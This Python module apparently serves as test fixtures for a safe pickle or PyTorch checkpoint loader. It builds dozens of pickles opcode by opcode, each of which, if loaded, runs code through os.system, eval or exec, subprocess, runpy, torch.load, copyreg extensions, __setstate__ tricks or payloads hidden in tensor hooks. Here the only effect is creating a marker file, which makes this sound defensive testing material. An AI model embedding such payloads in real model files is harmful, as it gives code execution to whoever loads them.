"""Pickles that would run something: each one, if it ran, would create the file `ran` in its folder.

They are put together operation by operation, because Python's pickler would not write most of them.
"""

from __future__ import annotations

import pickletools
import struct
from collections.abc import Callable
from pathlib import Path

CODES = {opcode.name: opcode.code.encode("latin-1") for opcode in pickletools.opcodes}
PROTO, STOP = b"\x80\x02", b"."
MARK, REDUCE, BUILD, POP = CODES["MARK"], CODES["REDUCE"], CODES["BUILD"], CODES["POP"]
DICT, LIST, ONE, TWO = CODES["EMPTY_DICT"], CODES["EMPTY_LIST"], CODES["TUPLE1"], CODES["TUPLE2"]
TUPLE, NONE, SETITEM, SETITEMS = CODES["TUPLE"], CODES["NONE"], CODES["SETITEM"], CODES["SETITEMS"]
FALSE, EMPTY, APPEND = CODES["NEWFALSE"], CODES["EMPTY_TUPLE"], CODES["APPEND"]


def text(value: str) -> bytes:
    encoded = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def number(value: int) -> bytes:
    if 0 <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    encoded = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return CODES["LONG1"] + bytes([len(encoded)]) + encoded


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def stack_named(module: str, name: str) -> bytes:
    return text(module) + text(name) + CODES["STACK_GLOBAL"]


def put(place: int) -> bytes:
    return CODES["BINPUT"] + bytes([place])


def get(place: int) -> bytes:
    return CODES["BINGET"] + bytes([place])


def tuple_of(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + tuple_of(*arguments) + REDUCE


def whole(*operations: bytes, proto: bytes = PROTO) -> bytes:
    return proto + b"".join(operations) + STOP


def storage(key: str, items: int, kind: bytes = named("torch", "FloatStorage")) -> bytes:
    return tuple_of(text("storage"), kind, text(key), text("cpu"), number(items)) + CODES["BINPERSID"]


def tensor(
    stored: bytes, shape: tuple[int, ...], stride: tuple[int, ...], offset: int = 0, hooks: bytes | None = None
) -> bytes:
    hooks = call(named("collections", "OrderedDict")) if hooks is None else hooks
    widths, steps = tuple_of(*map(number, shape)), tuple_of(*map(number, stride))
    return call(named("torch._utils", "_rebuild_tensor_v2"), stored, number(offset), widths, steps, FALSE, hooks)


def table(**items: bytes) -> bytes:
    return DICT + MARK + b"".join(text(name) + value for name, value in items.items()) + SETITEMS


def _script(folder: Path) -> str:
    path = folder / "evil.py"
    path.write_text(f"open({str(folder / 'ran')!r}, 'w').close()\ndef entry(): pass\n")
    return str(path)


def _hub(folder: Path) -> str:
    (folder / "hubconf.py").write_text(f"open({str(folder / 'ran')!r}, 'w').close()\ndef entry(): pass\n")
    return str(folder)


def _nested(folder: Path) -> bytes:
    return whole(_system(folder))


def _nested_file(folder: Path) -> str:
    (folder / "nested.pkl").write_bytes(_nested(folder))
    return str(folder / "nested.pkl")


def _command(folder: Path) -> str:
    return f"touch {folder / 'ran'}"


def _system(folder: Path) -> bytes:
    return call(named("os", "system"), text(_command(folder)))


def _code(folder: Path) -> str:
    return f"open({str(folder / 'ran')!r}, 'w').close()"


def _imported_os() -> bytes:
    return call(named("builtins", "__import__"), text("os"))


def _with_keywords(function: bytes, *arguments: bytes, **keywords: bytes) -> bytes:
    state = tuple_of(function, tuple_of(*arguments), table(**keywords), NONE)
    return call(named("functools", "partial"), function) + state + BUILD + EMPTY + REDUCE


def _short_bytes(value: bytes) -> bytes:
    return CODES["BINBYTES"] + struct.pack("<I", len(value)) + value


def _framed(version: int, body: bytes) -> bytes:
    body += STOP
    return b"\x80" + bytes([version]) + CODES["FRAME"] + struct.pack("<Q", len(body)) + body


GOOD = tensor(storage("0", 4), (2, 2), (2, 1))
_P4 = b"\x80\x04"

# name -> (folder) -> pickle; what plain pickle.loads runs on this system.
RUNNING: dict[str, Callable[[Path], bytes]] = {
    "os.system": lambda f: whole(_system(f)),
    "posix.system": lambda f: whole(call(named("posix", "system"), text(_command(f)))),
    "os.popen": lambda f: whole(
        call(named("builtins", "getattr"), call(named("os", "popen"), text(_command(f))), text("read")), EMPTY, REDUCE
    ),
    "subprocess.check_call": lambda f: whole(
        call(named("subprocess", "check_call"), LIST + text("touch") + APPEND + text(str(f / "ran")) + APPEND)
    ),
    "subprocess.getoutput": lambda f: whole(call(named("subprocess", "getoutput"), text(_command(f)))),
    "builtins.eval": lambda f: whole(call(named("builtins", "eval"), text(_code(f)))),
    "builtins.exec": lambda f: whole(call(named("builtins", "exec"), text(_code(f)))),
    "builtins.open": lambda f: whole(call(named("builtins", "open"), text(str(f / "ran")), text("w"))),
    "__builtin__.open of protocol 2": lambda f: whole(
        call(named("__builtin__", "open"), text(str(f / "ran")), text("w"))
    ),
    "builtins.getattr of builtins.__import__": lambda f: whole(
        call(call(named("builtins", "getattr"), _imported_os(), text("system")), text(_command(f)))
    ),
    "operator.attrgetter": lambda f: whole(
        call(call(call(named("operator", "attrgetter"), text("system")), _imported_os()), text(_command(f)))
    ),
    "operator.methodcaller": lambda f: whole(
        call(call(named("operator", "methodcaller"), text("system"), text(_command(f))), _imported_os())
    ),
    "pathlib.Path.write_text": lambda f: whole(
        call(
            stack_named("pathlib", "Path.write_text"),
            call(stack_named("pathlib", "Path"), text(str(f / "ran"))),
            text(""),
        ),
        proto=_P4,
    ),
    "pathlib.Path and getattr": lambda f: whole(
        call(call(named("builtins", "getattr"), call(named("pathlib", "Path"), text(str(f / "ran"))), text("touch")))
    ),
    "shutil.copyfile": lambda f: whole(call(named("shutil", "copyfile"), text(_script(f)), text(str(f / "ran")))),
    "runpy.run_path": lambda f: whole(call(named("runpy", "run_path"), text(_script(f)))),
    "importlib.import_module": lambda f: whole(
        call(named("site", "addsitedir"), text(str(Path(_script(f)).parent))),
        POP,
        call(named("importlib", "import_module"), text("evil")),
    ),
    "timeit.timeit": lambda f: whole(
        call(named("timeit", "timeit"), text(_code(f)), text("pass"), named("time", "time"), number(1))
    ),
    "torch.load through functools.partial": lambda f: whole(
        _with_keywords(named("torch", "load"), text(_nested_file(f)), weights_only=FALSE)
    ),
    "torch.hub.load through functools.partial": lambda f: whole(
        _with_keywords(named("torch.hub", "load"), text(_hub(f)), text("entry"), source=text("local"))
    ),
    "torch.storage._load_from_bytes": lambda f: whole(
        call(named("torch.storage", "_load_from_bytes"), _short_bytes(_nested(f))), proto=b"\x80\x03"
    ),
    "pickle.loads of a pickle": lambda f: whole(
        call(named("pickle", "loads"), _short_bytes(_nested(f))), proto=b"\x80\x03"
    ),
    "_pickle.loads of a text": lambda f: whole(
        call(
            named("_pickle", "loads"),
            call(named("_codecs", "encode"), text(_nested(f).decode("latin-1")), text("latin1")),
        )
    ),
    "numpy.load": lambda f: whole(call(named("numpy", "load"), text(_nested_file(f)), NONE, CODES["NEWTRUE"])),
    "INST": lambda f: whole(MARK, text(_command(f)), b"ios\nsystem\n"),
    "OBJ": lambda f: whole(MARK, named("os", "system"), text(_command(f)), b"o"),
    "NEWOBJ": lambda f: whole(
        named("builtins", "bytes"),
        named("builtins", "map") + tuple_of(named("os", "system"), LIST + text(_command(f)) + APPEND) + CODES["NEWOBJ"],
        ONE,
        CODES["NEWOBJ"],
    ),
    "NEWOBJ_EX": lambda f: whole(
        named("builtins", "bytes"),
        named("builtins", "map")
        + tuple_of(named("os", "system"), LIST + text(_command(f)) + APPEND)
        + DICT
        + CODES["NEWOBJ_EX"],
        ONE,
        DICT,
        CODES["NEWOBJ_EX"],
        proto=_P4,
    ),
    "STACK_GLOBAL": lambda f: whole(call(stack_named("os", "system"), text(_command(f))), proto=_P4),
    "STACK_GLOBAL of remembered names": lambda f: whole(
        text("system"),
        put(0),
        POP,
        text("os"),
        get(0),
        CODES["STACK_GLOBAL"],
        text(_command(f)),
        ONE,
        REDUCE,
        proto=_P4,
    ),
    "BUILD that sets __setstate__": lambda f: whole(
        call(named("argparse", "Namespace")),
        table(__setstate__=named("os", "system")),
        BUILD,
        text(_command(f)),
        BUILD,
    ),
    "EXT1 through copyreg": lambda f: whole(
        call(named("copyreg", "add_extension"), text("os"), text("system"), number(240)),
        POP,
        CODES["EXT1"] + bytes([240]),
        text(_command(f)),
        ONE,
        REDUCE,
    ),
    "BINPERSID of a called object": lambda f: whole(_system(f), CODES["BINPERSID"]),
    "a call in a persistent id": lambda f: whole(table(a=tensor(storage("0", 4, kind=_system(f)), (2, 2), (2, 1)))),
    "a remembered global": lambda f: whole(
        named("os", "system"), put(7), POP, DICT, text("a"), get(7), text(_command(f)), ONE, REDUCE, SETITEM
    ),
    "a global of the module torch": lambda f: whole(
        call(stack_named("torch.serialization", "os.system"), text(_command(f))), proto=_P4
    ),
    "protocol 4 with a frame": lambda f: _framed(4, call(stack_named("os", "system"), text(_command(f)))),
    "protocol 5 with a frame": lambda f: _framed(
        5, CODES["BYTEARRAY8"] + struct.pack("<Q", 1) + b"a" + POP + call(named("os", "system"), text(_command(f)))
    ),
    "beside tensors": lambda f: whole(table(a=GOOD, b=_system(f))),
    "before tensors, and dropped": lambda f: whole(_system(f), POP, table(a=GOOD)),
    "as a name": lambda f: whole(DICT, _system(f), GOOD, SETITEM),
    "as the hooks of a tensor": lambda f: whole(table(a=tensor(storage("0", 4), (2, 2), (2, 1), hooks=_system(f)))),
    "in the attributes of the table": lambda f: whole(
        call(named("collections", "OrderedDict")), text("a"), GOOD, SETITEM, table(_metadata=_system(f)), BUILD
    ),
    "as the type of a parameter": lambda f: whole(
        table(a=call(named("torch._utils", "_rebuild_parameter"), GOOD, _system(f), EMPTY))
    ),
    "a table made of a lazy call": lambda f: whole(
        call(
            named("collections", "OrderedDict"),
            call(named("builtins", "map"), named("os", "system"), LIST + text(_command(f)) + APPEND),
        )
    ),
    "through collections.OrderedDict's own name": lambda f: whole(
        call(stack_named("collections", "_sys.modules.get"), text("os")),
        put(0),
        POP,
        call(call(named("builtins", "getattr"), get(0), text("system")), text(_command(f))),
        proto=_P4,
    ),
}

# What plain pickle cannot run here: other systems' modules, and ids that only torch's reader would resolve.
DORMANT: dict[str, Callable[[Path], bytes]] = {
    "nt.system": lambda f: whole(call(named("nt", "system"), text(_command(f)))),
    "webbrowser.open": lambda f: whole(call(named("webbrowser", "open"), text("http://127.0.0.1:9/"))),
    "PERSID": lambda f: whole(b"Pos.system\n"),
    "a global in a persistent id": lambda f: whole(
        table(a=tensor(storage("0", 4, kind=named("os", "system")), (2, 2), (2, 1)))
    ),
    "a storage that is called": lambda f: whole(call(named("torch", "FloatStorage"), text(str(f / "ran")))),
    "torch.package": lambda f: whole(call(named("torch.package", "PackageImporter"), text(str(f)))),
    "torch.jit.load": lambda f: whole(call(named("torch.jit", "load"), text(str(f)))),
    "EXT4": lambda f: whole(CODES["EXT4"] + struct.pack("<i", 2**20)),
    "NEXT_BUFFER": lambda f: whole(CODES["NEXT_BUFFER"], proto=b"\x80\x05"),
}
